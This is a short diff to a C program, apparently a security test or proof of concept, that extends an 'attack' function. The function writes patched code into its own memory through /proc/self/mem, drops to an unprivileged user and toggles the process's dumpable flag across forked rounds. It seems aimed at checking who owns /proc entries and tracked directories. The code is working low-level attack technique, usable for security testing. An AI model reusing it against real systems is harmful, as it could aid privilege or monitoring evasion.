@@ -96,7 +96,7 @@ static char *find(size_t *length)
     return NULL;
 }
 
-static void attack(const char *directory, const char *tracked)
+static void attack(const char *directory, const char *tracked, int undumpable)
 {
     size_t length = 0;
     int fd = open(directory, O_TMPFILE | O_RDWR, 0600);
@@ -110,6 +110,7 @@ static void attack(const char *directory, const char *tracked)
     memcpy(code + length - sizeof jump + 1, jump, sizeof jump - 1);
     int memory = open("/proc/self/mem", O_WRONLY);
     CHECK(memory >= 0 && pwrite(memory, code, length, (off_t)start) == (ssize_t)length);
+    CHECK(!undumpable || prctl(PR_SET_DUMPABLE, 0) == 0);
     if (tracked) {
         mkdir(tracked, 0700);
     } else {
@@ -126,11 +127,11 @@ int main(int count, char **arguments)
     victim = open(arguments[3], O_RDONLY | O_DIRECTORY);
     snprintf(tracked, sizeof tracked, "%s/tracked", arguments[3]);
     CHECK(victim >= 0 && setgroups(0, NULL) == 0 && setresgid(user, user, user) == 0 && setresuid(user, user, user) == 0);
-    /* /proc/self/mem is its own again. */
+    /* Its memory is its own again; before the end it is not, and so /proc/PID is root's. */
     CHECK(prctl(PR_SET_DUMPABLE, 1) == 0);
-    for (int round = 0; round < 2; round++) {
+    for (int round = 0; round < 4; round++) {
         if (fork() == 0) {
-            attack(arguments[1], round ? tracked : NULL);
+            attack(arguments[1], round & 1 ? tracked : NULL, round & 2);
         }
         int status;
         CHECK(wait(&status) > 0 && status == 0);
